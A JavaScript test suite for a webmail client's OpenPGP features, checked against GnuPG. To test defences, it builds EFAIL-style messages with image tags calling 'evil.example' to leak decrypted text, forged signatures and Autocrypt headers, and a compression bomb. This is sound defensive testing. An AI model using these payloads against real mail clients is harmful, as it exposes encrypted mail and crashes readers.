/* OpenPGP on the page: keys, reading, writing, Autocrypt, the directory; GnuPG is the other side, and what is hostile comes from here. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test, { after } from 'node:test';
import { armour, deflated, literal, sealedPacket, sessionKey, sessionPacket, unprotected } from './pgp-packets.mjs';
import { SECRET, axe, command, compose, deliver, download, enter, frameOf, holds, html, isPhone, keptIn, mailProgram, mime, newPage, openMail, plain, png, row, shot, somebody, state, toFolder, toList, unique, until, url, written } from './support.mjs';

const PASSPHRASE = 'one for the road';
const homes = [];

/* GnuPG with a home of its own: what it says, as bytes. */
function gnupg(name) {
	const home = join(state.dir, name);
	mkdirSync(home, { mode: 0o700, recursive: true });
	homes.push(home);
	return (args, input = '') => execFileSync('gpg', ['--homedir', home, '--batch', '--yes', '--quiet', '--no-tty', '--trust-model', 'always', '--pinentry-mode', 'loopback', ...args], { input, stdio: ['pipe', 'pipe', 'pipe'] });
}

after(() => {
	for (const home of homes)
		execFileSync('gpgconf', ['--homedir', home, '--kill', 'all'], { stdio: 'ignore' });
});

function key(gpg, address) {
	gpg(['--passphrase', '', '--quick-gen-key', `Gina <${address}>`, 'default', 'default', 'never']);
	return gpg(['--armor', '--export', address]).toString();
}

/* PGP/MIME as GnuPG and another program make it (RFC 3156): DATA armoured. */
const sealed = (to, from, subject, data, more = {}) => mime(to, subject, 'encrypted; protocol="application/pgp-encrypted"', [
	{ headers: { 'Content-Type': 'application/pgp-encrypted' }, text: 'Version: 1' },
	{ headers: { 'Content-Type': 'application/octet-stream; name="encrypted.asc"' }, text: data.toString().replace(/\r?\n/g, '\r\n') },
], { From: from, ...more });

const entity = (text, headers = '') => `${headers}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${text}\r\n`;

async function makeKey(page) {
	await page.getByLabel('Passphrase', { exact: true }).fill(PASSPHRASE);
	await page.getByLabel('Passphrase again').fill(PASSPHRASE);
	await page.getByRole('button', { name: 'Make a key' }).click();
	await page.getByText('The key was made.').first().waitFor();
	await page.locator('.smime-key .print').first().waitFor();
}

async function importKey(page, text) {
	await page.goto(`${url}/settings/openpgp`);
	await page.getByLabel('Or the key as text').fill(text);
	await page.getByRole('button', { name: 'Import keys' }).click();
	await page.getByText('One key was imported.').first().waitFor();
}

const keyMenu = (page, name) => page.getByRole('button', { name: `Key of ${name}` }).click();

async function savedKey(page, name, what) {
	return (await download(page, async () => {
		await keyMenu(page, name);
		await page.getByRole('menuitem', { name: what }).click();
	})).bytes.toString();
}

async function unlock(page, passphrase = PASSPHRASE) {
	await page.getByLabel('Passphrase').fill(passphrase);
	await page.getByRole('button', { name: 'Unlock' }).click();
}

const trust = (page, name) => page.locator('article.msg .trust', { hasText: name }).first().waitFor();
const alarm = (page, text) => page.locator('article.msg .rem.alarm', { hasText: text }).waitFor();

/* A person with a key, and GnuPG that has it, too. */
async function withKey(name, options) {
	const page = await newPage(options);
	const who = await somebody(page, name);
	await enter(page, who, SECRET, '/settings/openpgp');
	await makeKey(page);
	return { page, who };
}

test('a key is made, saved, removed and imported; GnuPG takes it', { timeout: 600_000 }, async () => {
	const page = await newPage();
	const who = await somebody(page, 'Olga');
	await enter(page, who, SECRET, '/settings/openpgp');
	await page.getByText('You have no key yet.').waitFor();
	await page.getByLabel('Passphrase', { exact: true }).fill(PASSPHRASE);
	await page.getByLabel('Passphrase again').fill('another one');
	await page.getByRole('button', { name: 'Make a key' }).click();
	await page.getByRole('alert').waitFor();
	await makeKey(page);
	const print = (await page.locator('.smime-key .print').innerText()).replace(/ /g, '');
	assert.match(print, /^[0-9A-F]{40}$/);
	assert.deepEqual(await axe(page, 'keys'), []);
	await shot(page, 'openpgp-keys');
	const gpg = gnupg('olga');
	const open = await savedKey(page, 'Olga', 'Save the public key');
	assert.match(open, /^-----BEGIN PGP PUBLIC KEY BLOCK-----/);
	const secret = await savedKey(page, 'Olga', 'Save the secret key');
	gpg(['--import'], open);
	assert.match(gpg(['--with-colons', '--list-keys']).toString(), new RegExp(`fpr:+${print}:`));
	gpg(['--passphrase', PASSPHRASE, '--import'], secret);
	assert.match(gpg(['--passphrase', PASSPHRASE, '--clearsign'], 'x').toString(), /BEGIN PGP SIGNATURE/);
	await keyMenu(page, 'Olga');
	await page.getByRole('menuitem', { name: 'Remove' }).click();
	await page.getByRole('button', { name: 'Remove', exact: true }).click();
	await page.getByText('You have no key yet.').waitFor();
	await page.getByLabel('Or the key as text').fill(secret);
	await page.getByLabel('Its passphrase').fill('wrong');
	await page.getByRole('button', { name: 'Import keys' }).click();
	await page.getByRole('alert').getByText('This passphrase does not open the key.').waitFor();
	await page.getByLabel('Its passphrase').fill(PASSPHRASE);
	await page.getByRole('button', { name: 'Import keys' }).click();
	await page.getByText('One key was imported.').first().waitFor();
	assert.equal((await page.locator('.smime-key .print').innerText()).replace(/ /g, ''), print);
	await page.getByLabel('Or the key as text').fill('nothing');
	await page.getByRole('button', { name: 'Import keys' }).click();
	await page.getByRole('alert').getByText('There is no OpenPGP key in this.').waitFor();
	/* Somebody else's, verified. */
	await importKey(page, key(gnupg('gina0'), 'gina@outside.example'));
	await keyMenu(page, 'Gina');
	await page.getByRole('menuitemcheckbox', { name: 'Verified' }).click();
	await page.getByText('Verified by you').waitFor();
	await page.reload();
	await page.getByText('Verified by you').waitFor();
	assert.deepEqual(page.complaints, []);
});

test('what GnuPG encrypted and signed is read; what was tampered with is not', { timeout: 600_000 }, async () => {
	const { page, who } = await withKey('Rita');
	const secret = await savedKey(page, 'Rita', 'Save the secret key');
	const gpg = gnupg('gina');
	const from = 'gina@outside.example';
	await importKey(page, key(gpg, from));
	gpg(['--passphrase', PASSPHRASE, '--import'], secret);
	const encrypt = (text, ...how) => gpg(['--passphrase', '', '--armor', '-r', who, ...how, '--encrypt'], text);
	const sign = ['--sign', '-u', from];
	const send = (subject, data) => deliver({ to: who, from, subject, data });

	/* Whole: text, HTML, a file, a protected subject. */
	const inner = unique('Inside');
	const rich = mime(who, inner, 'mixed; hp="cipher"', [html('<p>Only for <b>you</b><img src="https://tracker.example/x.png"></p>'),
		{ headers: { 'Content-Type': 'image/png; name="dot.png"', 'Content-Disposition': 'attachment; filename="dot.png"' }, bytes: png }], { From: from });
	const outer = unique('Sealed');
	await send(outer, sealed(who, from, outer, encrypt(rich, ...sign)));
	await page.goto(`${url}/`);
	await row(page, outer).click();
	await page.getByLabel('Passphrase').waitFor();
	assert.equal(await page.locator('article.msg iframe, article.msg .att').count(), 0);
	assert.deepEqual(await axe(page, 'locked'), []);
	await shot(page, 'openpgp-locked');
	await unlock(page, 'wrong');
	await page.getByRole('alert').getByText('This passphrase does not open the key.').waitFor();
	await unlock(page);
	await page.locator('.conv h1', { hasText: inner }).waitFor();
	await frameOf(page).getByText('Only for you').waitFor();
	/* It was read, and stays so. */
	if (!isPhone(page))
		await holds(async () => assert.doesNotMatch(await row(page, inner).first().getAttribute('aria-label'), /unread/i));
	await trust(page, 'Encrypted');
	await trust(page, 'Signed');
	assert.equal(await frameOf(page).locator('img[src^="http"]').count(), 0);
	const file = await download(page, () => page.locator('.att a.ib').click());
	assert.deepEqual([file.name, file.bytes.equals(png)], ['dot.png', true]);
	assert.deepEqual(await axe(page, 'opened'), []);
	await shot(page, 'openpgp-read');
	assert.doesNotMatch(await keptIn(page, 'threads'), /Only for/);

	/* Text alone, in the body: no HTML is made of it. */
	const inline = unique('Inline');
	await send(inline, mime(who, inline, 'mixed', [], { From: from }).replace(/Content-Type: multipart[^]*$/, `Content-Type: text/plain\r\n\r\n${encrypt('<b>as it is</b>\n', ...sign).toString().replace(/\n/g, '\r\n')}`));
	await openMail(page, inline);
	await page.locator('article.msg .mb', { hasText: '<b>as it is</b>' }).waitFor();
	await trust(page, 'Signed');

	/* Signed only. */
	const part = entity('Pay the invoice.');
	const signature = gpg(['--passphrase', '', '--armor', '--detach-sign', '-u', from, '--digest-algo', 'SHA256'], part.replace(/\r\n$/, ''));
	const signed = (subject, text, sig = signature, sender = from) => mime(who, subject, 'signed; micalg=pgp-sha256; protocol="application/pgp-signature"', [], { From: sender })
		.replace(/(boundary="(\w+)"[^]*?\r\n\r\n)[^]*$/, (_, head, mark) => `${head}--${mark}\r\n${text.replace(/\r\n$/, '')}\r\n--${mark}\r\nContent-Type: application/pgp-signature; name="signature.asc"\r\n\r\n${sig.toString().replace(/\n/g, '\r\n')}\r\n--${mark}--\r\n`);
	const good = unique('Signed');
	await send(good, signed(good, part));
	await openMail(page, good);
	await trust(page, 'Signed');
	assert.equal(await page.locator('.att li').count(), 0);
	const altered = unique('Altered');
	await send(altered, signed(altered, entity('Pay the INVOICE.')));
	await openMail(page, altered);
	await alarm(page, 'The signature does not fit');
	await shot(page, 'openpgp-altered');
	/* A good signature under somebody else's name. */
	const other = unique('Another');
	await deliver({ to: who, from: 'mallory@outside.example', subject: other, data: signed(other, part, signature, 'mallory@outside.example') });
	await openMail(page, other);
	await alarm(page, 'does not belong to mallory@outside.example');
	const stranger = gnupg('stranger');
	key(stranger, 'x@outside.example');
	const unknown = unique('Unknown');
	await send(unknown, signed(unknown, part, stranger(['--passphrase', '', '--armor', '--detach-sign'], part.replace(/\r\n$/, ''))));
	await openMail(page, unknown);
	await trust(page, 'Unknown signature');

	/* One bit of the ciphertext. */
	const binary = gpg(['--cipher-algo', 'AES256', '-r', who, '--encrypt'], entity('Once more'));
	const session = sessionKey(join(state.dir, 'gina'), PASSPHRASE, binary);
	assert.equal(session.length, 32);
	const flipped = Buffer.from(binary);
	flipped[flipped.length - 40] ^= 1;
	const broken = unique('Broken');
	await send(broken, sealed(who, from, broken, armour(flipped)));
	await openMail(page, broken);
	await alarm(page, 'damaged or changed');
	/* Without integrity protection, as EFAIL wants it. */
	const naked = unique('Naked');
	const secretHtml = 'Content-Type: text/html\r\n\r\n<img src="https://evil.example/?secret">';
	await send(naked, sealed(who, from, naked, armour(Buffer.concat([sessionPacket(binary), unprotected(session, literal(secretHtml))]))));
	await openMail(page, naked);
	await alarm(page, 'not protected against changes');
	assert.equal(await page.locator('article.msg iframe').count(), 0);
	await shot(page, 'openpgp-naked');
	/* The same with its code is opened, so that the test before says what it means to. */
	const whole = unique('Whole');
	await send(whole, sealed(who, from, whole, armour(Buffer.concat([sessionPacket(binary), sealedPacket(session, literal(entity('by hand')))]))));
	await openMail(page, whole);
	await page.locator('article.msg .mb', { hasText: 'by hand' }).waitFor();
	/* A stranger's HTML around the secret: nothing of it is opened. */
	const gadget = unique('Gadget');
	await send(gadget, mime(who, gadget, 'mixed', [html('<img src="https://evil.example/?'), plain(encrypt('top secret').toString().replace(/\n/g, '\r\n')), html('">')], { From: from }));
	await openMail(page, gadget);
	await page.locator('article.msg').getByText('BEGIN PGP MESSAGE').waitFor();
	const wrapped = unique('Wrapped');
	await send(wrapped, sealed(who, from, wrapped, encrypt('top secret')).replace('multipart/encrypted; protocol="application/pgp-encrypted"', 'multipart/mixed'));
	await openMail(page, wrapped);
	await page.locator('.att li').first().waitFor();
	assert.equal(await page.getByText('top secret').count(), 0);
	/* A hundred megabytes of nothing in some kilobytes. */
	const bomb = Buffer.concat([sessionPacket(binary), sealedPacket(session, deflated(literal(Buffer.alloc(120_000_000))))]);
	assert.ok(bomb.length < 300_000);
	const large = unique('Bomb');
	await send(large, sealed(who, from, large, armour(bomb)));
	await openMail(page, large);
	await alarm(page, 'too large to be opened');
	assert.deepEqual(page.complaints, []);
});

async function write(page, { to, subject, words }) {
	await compose(page);
	for (const one of [to].flat()) {
		await page.getByRole('combobox', { name: 'To', exact: true }).fill(one);
		await page.keyboard.press('Enter');
	}
	await page.getByLabel('Subject').fill(subject);
	await written(page).click();
	await page.keyboard.type(words);
}

async function option(page, name) {
	await page.getByRole('button', { name: 'More options' }).click();
	await page.getByRole('menuitemcheckbox', { name }).click();
}

const sendIt = page => page.getByRole('button', { name: 'Send', exact: true }).click();

/* All messages of a folder as the server has them. */
async function rawOf(name, folder) {
	const program = await mailProgram(name);
	try {
		await program.command(`SELECT "${folder}"`);
		return (await program.command('UID FETCH 1:* BODY.PEEK[]')).join('\r\n');
	} finally {
		program.close();
	}
}

test('two people write to each other; the server has nothing in clear, GnuPG opens it', { timeout: 600_000 }, async () => {
	const subject = unique('Plans');
	const { page: ann, who: annie } = await withKey('Ann');
	const { page: ben, who: benno } = await withKey('Ben', { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, colorScheme: 'dark' });
	/* Ben lets everybody find his key; Gina's is imported. */
	await keyMenu(ben, 'Ben');
	await ben.getByRole('menuitemcheckbox', { name: 'Let everybody find it' }).click();
	await ben.getByText('Everybody can find it by your address').waitFor();
	await shot(ben, 'openpgp-keys-390');
	assert.deepEqual(await axe(ben, 'keys on the phone'), []);
	const gpg = gnupg('gina2');
	await importKey(ann, key(gpg, 'gina@outside.example'));
	gpg(['--import'], await savedKey(ann, 'Ann', 'Save the public key'));
	await ann.goto(`${url}/`);
	await ann.locator('.lp .empty').waitFor();
	await write(ann, { to: 'nobody@outside.example', subject, words: 'Only for you' });
	await option(ann, 'Encrypt (OpenPGP)');
	await ann.getByRole('status').getByText('an OpenPGP key of nobody@outside.example is needed').waitFor();
	await sendIt(ann);
	await ann.getByRole('alert').getByText('an OpenPGP key of nobody@outside.example is needed').waitFor();
	assert.deepEqual(await axe(ann, 'what stands against it'), []);
	await shot(ann, 'openpgp-compose');
	await ann.getByRole('button', { name: /nobody@outside\.example/ }).last().click();
	for (const one of [benno, 'gina@outside.example']) {
		await ann.getByRole('combobox', { name: 'To', exact: true }).fill(one);
		await ann.keyboard.press('Enter');
	}
	await until('nothing is missing', async () => await ann.locator('.secure .bad').first().innerText() === '');
	await ann.locator('input[type=file].attach').setInputFiles({ name: 'plan.txt', mimeType: 'text/plain', buffer: Buffer.from('the plan itself') });
	await written(ann).click();
	await ann.keyboard.type(', and a file');
	await ann.getByText(/^Draft saved/).waitFor();
	const drafts = async () => rawOf(annie, 'Drafts');
	await holds(async () => assert.match(await drafts(), /BEGIN PGP MESSAGE/));
	assert.doesNotMatch(await drafts(), new RegExp(`Only for you|the plan|plan\\.txt|${subject}|${Buffer.from('the plan itself').toString('base64')}`));
	/* To sign, the key is needed. */
	await sendIt(ann);
	await ann.getByRole('alert').getByText('is locked').waitFor();
	await unlock(ann);
	await ann.getByLabel('Passphrase').waitFor({ state: 'detached' });
	await sendIt(ann);
	await ann.getByText('Message sent').first().waitFor();
	const sent = await rawOf(annie, 'Sent');
	assert.doesNotMatch(sent, new RegExp(`Only for you|plan\\.txt|${subject}`));
	assert.match(sent, /^Autocrypt: addr=/m);
	const opened = gpg(['--passphrase', '', '--decrypt'], /-----BEGIN PGP MESSAGE-----[^]*?-----END PGP MESSAGE-----/.exec(sent)[0]).toString();
	assert.match(opened, /Only for you, and a file/);
	assert.match(opened, new RegExp(`Subject: ${subject}`));
	assert.match(opened, new RegExp(Buffer.from('the plan itself').toString('base64')));
	/* On Ben's phone: Ann's key came with the message. */
	await ben.goto(`${url}/`);
	await row(ben, '[...]').first().click();
	await unlock(ben);
	await ben.locator('.conv h1', { hasText: subject }).waitFor();
	await frameOf(ben).last().getByText('Only for you, and a file').waitFor();
	await trust(ben, 'Encrypted');
	await trust(ben, 'Signed');
	assert.deepEqual(await axe(ben, 'opened on the phone'), []);
	await shot(ben, 'openpgp-read-390');
	await command(ben, 'reply');
	await ben.getByRole('button', { name: /Encrypted \(OpenPGP\)/ }).waitFor();
	await shot(ben, 'openpgp-answer-390');
	await written(ben).click();
	await ben.keyboard.type('So be it. ');
	await sendIt(ben);
	await ben.getByText('Message sent').first().waitFor();
	await until('the answer', async () => await ann.locator('article.msg, .rows').count() > 0);
	await toList(ann);
	await row(ann, /\[\.\.\.\]|Plans/).first().click();
	await frameOf(ann).last().getByText('So be it.').waitFor();
	await trust(ann, 'Signed');
	assert.doesNotMatch(await rawOf(annie, 'INBOX'), /So be it|Only for you/);
	assert.deepEqual([...ann.complaints, ...ben.complaints], []);
});

test('a draft that was encrypted is gone on with, and signed mail holds for GnuPG', { timeout: 600_000 }, async () => {
	const subject = unique('Statement');
	const { page, who } = await withKey('Sue');
	const gpg = gnupg('sue');
	gpg(['--import'], await savedKey(page, 'Sue', 'Save the public key'));
	await page.goto(`${url}/`);
	await page.locator('.lp .empty').waitFor();
	await write(page, { to: who, subject, words: 'First half' });
	await option(page, 'Encrypt (OpenPGP)');
	await page.getByText(/^Draft saved/).waitFor();
	await holds(async () => assert.match(await rawOf(who, 'Drafts'), /BEGIN PGP MESSAGE/));
	assert.doesNotMatch(await rawOf(who, 'Drafts'), /First half/);
	await page.locator('.cmp .hdr button').last().click();
	await page.locator('.cmp').waitFor({ state: 'detached' });
	/* The server has it, so this browser lets go of it; else it would open by itself. */
	await until('nothing is kept', async () => await keptIn(page, 'drafts') === '[]');
	await page.reload();
	await toFolder(page, 'Drafts');
	await row(page, '[...]').first().click();
	await unlock(page);
	await page.locator('.conv h1', { hasText: subject }).waitFor();
	await page.getByRole('button', { name: 'Continue writing' }).click();
	await written(page).getByText('First half').waitFor();
	await page.getByRole('button', { name: /Encrypted \(OpenPGP\)/ }).click();
	await page.getByRole('button', { name: /Signed \(OpenPGP\)/ }).waitFor();
	await sendIt(page);
	await page.getByText('Message sent').first().waitFor();
	const sent = await rawOf(who, 'Sent');
	const [, mark] = /multipart\/signed;[^]*?boundary="([^"]+)"/.exec(sent);
	const [, part, after] = sent.split(`--${mark}`);
	writeFileSync(join(state.dir, 'part'), part.replace(/^\r\n/, '').replace(/\r\n$/, ''));
	writeFileSync(join(state.dir, 'part.asc'), /-----BEGIN PGP SIGNATURE[^]*-----END PGP SIGNATURE-----/.exec(after)[0]);
	gpg(['--verify', join(state.dir, 'part.asc'), join(state.dir, 'part')]);
	await toFolder(page, 'Inbox');
	await openMail(page, subject);
	await trust(page, 'Signed');
	assert.deepEqual(page.complaints, []);
});

test('keys come with mail, of the sender alone', { timeout: 600_000 }, async () => {
	const { page, who } = await withKey('Tess');
	const gpg = gnupg('gina3');
	const from = 'gina@outside.example';
	key(gpg, from);
	const data = gpg(['--export', '--export-options', 'export-minimal', from]).toString('base64');
	const header = addr => `addr=${addr}; prefer-encrypt=mutual; keydata=${data.replace(/.{70}/g, '$&\r\n ')}`;
	/* It comes by itself, a moment later. */
	const learned = async open => {
		const told = page.waitForResponse(r => /PgpKey\/set/.test(r.request().postData() ?? ''));
		await open();
		await (await told).finished();
	};
	const forged = unique('Forged');
	await deliver({ to: who, from: 'mallory@outside.example', subject: forged, headers: { Autocrypt: header(from) } });
	await page.goto(`${url}/`);
	await openMail(page, forged);
	/* The name in a key counts for nothing: it is of who sent it. */
	const named = unique('Named');
	await deliver({ to: who, from: 'mallory@outside.example', subject: named, headers: { Autocrypt: header('mallory@outside.example') } });
	await learned(() => openMail(page, named));
	const keys = async () => {
		await page.goto(`${url}/settings/openpgp`);
		await page.getByRole('heading', { name: 'Keys of others' }).waitFor();
		await page.locator('.set-box').last().locator('.set-row').first().waitFor();
		return page.locator('.smime-key small:first-of-type').allInnerTexts();
	};
	await holds(async () => assert.deepEqual(await keys(), [who, 'mallory@outside.example']));
	await keyMenu(page, 'Gina');
	await page.getByRole('menuitem', { name: 'Remove' }).click();
	await page.getByRole('button', { name: 'Remove', exact: true }).click();
	await page.getByText('No keys of others are known yet.').waitFor();
	const good = unique('Honest');
	await deliver({ to: who, from, subject: good, headers: { Autocrypt: header(from) } });
	await page.goto(`${url}/`);
	await learned(() => openMail(page, good));
	await holds(async () => assert.deepEqual(await keys(), [who, from]));
	await page.getByText('Came with a message (Autocrypt)').waitFor();
	/* Both want it so: encryption is one click away. */
	await page.goto(`${url}/`);
	await page.locator('.rows').waitFor();
	await write(page, { to: from, subject: unique('Offer'), words: 'x' });
	await page.getByText('Everybody here wants encrypted mail.').waitFor();
	await shot(page, 'openpgp-offer');
	await page.getByRole('button', { name: 'Encrypt (OpenPGP)' }).click();
	await page.getByRole('button', { name: /Encrypted \(OpenPGP\)/ }).waitFor();
	assert.deepEqual(page.complaints, []);
});
